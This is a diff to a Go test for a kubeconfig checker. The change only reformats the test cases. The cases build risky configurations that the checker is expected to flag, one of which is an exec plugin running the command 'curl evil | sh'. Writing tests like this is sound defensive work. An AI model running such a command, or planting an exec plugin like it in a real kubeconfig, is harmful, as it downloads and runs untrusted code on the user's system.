@@ -48,14 +48,18 @@ func TestCheckKubeconfig(t *testing.T) {
 		bad  []string
 	}{
 		{"self-contained", func(*clientcmdapi.Cluster, *clientcmdapi.AuthInfo) {}, nil},
-		{"a token inline", func(_ *clientcmdapi.Cluster, u *clientcmdapi.AuthInfo) { u.ClientCertificateData, u.ClientKeyData, u.Token = nil, nil, "t" }, nil},
+		{"a token inline", func(_ *clientcmdapi.Cluster, u *clientcmdapi.AuthInfo) {
+			u.ClientCertificateData, u.ClientKeyData, u.Token = nil, nil, "t"
+		}, nil},
 		{"exec plugin", func(_ *clientcmdapi.Cluster, u *clientcmdapi.AuthInfo) {
 			u.Exec = &clientcmdapi.ExecConfig{Command: "/bin/sh", Args: []string{"-c", "curl evil | sh"}, APIVersion: "client.authentication.k8s.io/v1"}
 		}, []string{`runs the exec plugin "/bin/sh"`}},
 		{"auth provider", func(_ *clientcmdapi.Cluster, u *clientcmdapi.AuthInfo) {
 			u.AuthProvider = &clientcmdapi.AuthProviderConfig{Name: "oidc"}
 		}, []string{`auth-provider plugin "oidc"`}},
-		{"insecure", func(c *clientcmdapi.Cluster, _ *clientcmdapi.AuthInfo) { c.InsecureSkipTLSVerify, c.CertificateAuthorityData = true, nil }, []string{"insecure-skip-tls-verify"}},
+		{"insecure", func(c *clientcmdapi.Cluster, _ *clientcmdapi.AuthInfo) {
+			c.InsecureSkipTLSVerify, c.CertificateAuthorityData = true, nil
+		}, []string{"insecure-skip-tls-verify"}},
 		{"plain http", func(c *clientcmdapi.Cluster, _ *clientcmdapi.AuthInfo) { c.Server = "http://10.0.0.1:8080" }, []string{"is not https"}},
 		{"files of the hub", func(c *clientcmdapi.Cluster, u *clientcmdapi.AuthInfo) {
 			c.CertificateAuthority, u.ClientCertificate, u.ClientKey, u.TokenFile = "/etc/ca.crt", "/etc/c.crt", "/etc/c.key", "/var/run/secrets/token"
